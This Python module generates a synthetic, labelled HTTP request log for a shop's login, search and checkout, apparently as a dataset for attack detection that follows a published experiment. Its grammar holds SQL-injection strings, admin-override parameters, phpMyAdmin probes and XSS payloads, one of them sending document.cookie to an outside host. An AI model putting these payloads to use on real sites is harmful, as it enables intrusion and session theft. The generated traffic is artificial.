"""A request log in the form of the published experiment: a shop's login, search and checkout.

CSV without header, quote character ``|``: one JSON document, then 0 or 1 (docs/published.md). The
kinds of rows are those of that experiment, its weaknesses included: the status code often gives the
class away, equal requests recur, and rows are sorted by class in parts. The vocabulary is ours. A
trimmed log uses 62 characters, as the experiment's did.
"""

import json
from collections.abc import Iterator
from random import Random
from typing import Any

from traffic.grammars.simulate.grammar import Grammar
from traffic.simulate.pools import ipv4

ATTACK_SHARE = 0.499
PARTS = 8  # in each the normal rows come first, then the attacks
ROUTES = ("/search", "/login", "/checkout", "/{p*}")  # the last: no route answers that path
NORMAL_ROUTES, ATTACK_ROUTES = (76, 21, 3, 0), (44, 36, 7, 13)  # per cent

GRAMMAR = Grammar(
    {
        "department": (
            "⟨kind⟩", "⟨kind⟩", "⟨kind⟩ & ⟨kind⟩", "⟨whose⟩ ⟨kind⟩", "⟨room⟩ ⟨kind⟩",
            "⟨room⟩ ⟨kind⟩", "⟨kind⟩ Repair", "⟨room⟩", "⟨n⟩0% Off ⟨kind⟩",
        ),
        "kind": (
            "Lamps", "Chairs", "Carpets", "Bicycles", "Tents", "Watches", "Boots", "Coats",
            "Scarves", "Puzzles", "Board Games", "Headphones", "Keyboards", "Printers", "Drills",
            "Ladders", "Mirrors", "Curtains", "Kettles", "Ovens", "Freezers", "Vacuum Cleaners",
            "Perfume", "Soap", "Vitamins", "Yoga Mats", "Rowing Machines", "Skates", "Guitars",
            "Violins", "Seeds", "Hedge Trimmers", "Aquariums", "Cribs", "Quilts", "Jewellery",
        ),
        "whose": ("Women's", "Men's", "Kids'", "Babies'", "Children's"),
        "room": ("Kitchen", "Garden", "Office", "Bathroom", "Outdoor", "Travel", "Nursery"),
        "typed": ("⟨syllable⟩⟨syllable⟩", "⟨syllable⟩⟨syllable⟩⟨syllable⟩", "⟨syllable⟩"),
        "syllable": (
            "ba", "cez", "di", "fo", "gug", "hab", "jov", "ku", "lem", "mi", "nuz", "op", "pra",
            "rif", "su", "tev", "ul", "vas", "wo", "zeb", "ek", "ij",
        ),
        "user": (
            "⟨given⟩", "⟨given⟩⟨n⟩", "⟨given⟩⟨n⟩⟨n⟩", "⟨n⟩⟨n⟩⟨given⟩", "⟨typed⟩", "⟨typed⟩⟨n⟩",
            "⟨given⟩@⟨typed⟩.com",
        ),
        "given": (
            "Anna", "Boris", "Clara", "Dmitri", "Emil", "Farah", "Greta", "Hugo", "Ines", "Jonas",
            "Kofi", "Lena", "Mats", "Nadia", "Oskar", "Petra", "Quentin", "Rosa", "Sven", "Tilda",
            "Umar", "Vera", "Wanda", "Xenia", "Yusuf", "Zora",
        ),
        "password": (
            "⟨typed⟩", "⟨typed⟩⟨number⟩", "⟨secret⟩⟨number⟩", "⟨secret⟩⟨number⟩", "⟨number⟩⟨n⟩⟨n⟩",
            "⟨secret⟩!", "⟨typed⟩⟨given⟩⟨n⟩", "⟨secret⟩@⟨n⟩",
        ),
        "secret": ("letmein", "sunshine", "qwerty", "bluesky", "winter", "k1tten", "football"),
        "card": ("⟨four⟩⟨four⟩⟨four⟩⟨four⟩",),
        "four": ("⟨n⟩⟨n⟩⟨n⟩⟨n⟩",),
        "injection": ("⟨override⟩", "⟨override⟩", "⟨condition⟩", "⟨statement⟩", "⟨fragment⟩"),
        "override": (
            "&_method=⟨verb⟩", "&_method = ⟨verb⟩", "&_method=⟨verb⟩&isAdmin=true",
            "&isAdmin=true",
        ),
        "verb": ("PUT", "DELETE", "POST", "PATCH"),
        "condition": (
            "' OR '⟨n⟩'='⟨n⟩' ⟨end⟩", "OR ⟨n⟩=⟨n⟩; # limit 1", "OR ⟨n⟩ = ⟨n⟩", ";OR ⟨n⟩=⟨n⟩",
            "OR ⟨n⟩=⟨n⟩; #", "' OR '⟨n⟩'='⟨n⟩",
        ),
        "end": ("--", "/*", "({", "#"),
        "statement": (
            ";DROP", ";DROP TABLE", ";DROP TABLE ⟨table⟩", ";CREATE ⟨table⟩",
            ";DELETE FROM ⟨table⟩", ";UPDATE ⟨table⟩",
        ),
        "table": ("user", "users", "orders", "cards"),
        "fragment": ("--", "({", "/*", "';", "#"),
        "markup": (
            "<script>", "<script>alert(⟨n⟩)</script>", "<head>", "<body>", "src=javascript",
            '<meta http-equiv="refresh">', '<script src="http://⟨typed⟩/⟨file⟩.js"></script>',
            '<script> window.location="http://⟨typed⟩/?cookie="+document.cookie</script>',
            "<img src=⟨typed⟩ onerror=alert()>",
        ),
        "file": ("bad-script", "bad‑script", "x"),  # the second with U+2011: a JSON escape
        "probe": ("/⟨tool⟩", "/⟨tool⟩/", "/⟨tool⟩20⟨n⟩⟨n⟩", "/⟨tool⟩20⟨n⟩⟨n⟩/", "/⟨top⟩/⟨tool⟩/"),
        "tool": ("phpMyAdmin", "phpmyadmin", "PMA", "pma", "dbadmin", "myadmin", "sqlmanager"),
        "top": ("sql", "db", "web", "admin", "administrator"),
    }
)  # fmt: skip


def published_log(count: int, seed: int, start: int) -> Iterator[bytes]:
    """``count`` lines, 49.9 % of them attacks; ``start`` is the time of the first, epoch seconds.

    The same arguments give the same bytes.
    """
    rng = Random(seed)
    clients = [ipv4(rng) for _ in range(300)]
    clock = start * 1000
    for label in _labels(count):
        clock += rng.randrange(1, 900)
        document = json.dumps(_document(rng, label, clock, rng.choice(clients)), **_COMPACT)
        yield f"|{document}|,{label}\n".encode()


_COMPACT: dict[str, Any] = {"separators": (",", ":"), "ensure_ascii": False}


def _labels(count: int) -> Iterator[int]:
    for part in range(PARTS):
        rows, attacks = (
            round(total * (part + 1) / PARTS) - round(total * part / PARTS)
            for total in (count, round(count * ATTACK_SHARE))
        )
        yield from [0] * (rows - attacks) + [1] * attacks


def _document(rng: Random, label: int, clock: int, client: str) -> dict[str, Any]:
    """The whole document, keys in the order of the experiment; ``clock`` is epoch ms."""
    route = rng.choices(ROUTES, ATTACK_ROUTES if label else NORMAL_ROUTES)[0]
    path = GRAMMAR.expand(rng, "probe") if route == "/{p*}" else route
    post = route in ("/login", "/checkout")
    query: dict[str, str] = {}
    payload: dict[str, str] | None = None
    if route == "/search":
        query["query"], status = _search(rng, label)
    elif route == "/login":
        payload, status = _login(rng, label)
    elif route == "/checkout":
        payload = {"creditCard": GRAMMAR.expand(rng, "markup" if label else "card")}
        status = 400 if label else 200
    else:
        status = 404
    referer = {"referer": "http://shop.example/enter"} if rng.random() < 0.5 else {}
    return {
        "timestamp": clock,
        "method": "post" if post else "get",
        "query": query,
        "path": path,
        "statusCode": status,
        "source": {"remoteAddress": client} | referer,
        "route": route,
        "headers": _headers(rng, payload) | referer,
        "requestPayload": payload,
        "responsePayload": _response(status, route),
    }


def _search(rng: Random, label: int) -> tuple[str, int]:
    if not label:
        found = rng.random() < 0.5
        return GRAMMAR.expand(rng, "department" if found else "typed"), 200 if found else 404
    before = GRAMMAR.expand(rng, "department") if rng.random() < 0.7 else ""
    return before + GRAMMAR.expand(rng, "injection"), 404


def _login(rng: Random, label: int) -> tuple[dict[str, str], int]:
    payload = {key: GRAMMAR.expand(rng, symbol) for key, symbol in _LOGIN.items()}
    if label:
        payload[rng.choice(tuple(_LOGIN))] = GRAMMAR.expand(rng, "injection")
    return payload, 401 if label or rng.random() < 0.6 else 200


_LOGIN = {"username": "user", "password": "password"}
_ERRORS = {400: "Bad Request", 401: "Unauthorized", 404: "Not Found"}


def _headers(rng: Random, payload: dict[str, str] | None) -> dict[str, str]:
    headers = {
        "host": "shop.example",
        "connection": "keep-alive",
        "accept": "*/*",
        "accept-encoding": "gzip, deflate, br",
        "accept-language": rng.choice(("en-us", "en-GB,en;q=0.8", "es", "de-DE,de;q=0.9")),
    }
    if payload is not None:
        headers["content-type"] = "application/json"
        headers["content-length"] = str(len(json.dumps(payload, **_COMPACT).encode()))
    return headers


def _response(status: int, route: str) -> Any:
    if status == 200:
        return route.strip("/").upper()
    message = "Invalid Login" if status == 401 else _ERRORS[status]
    return {"statusCode": status, "error": _ERRORS[status], "message": message}
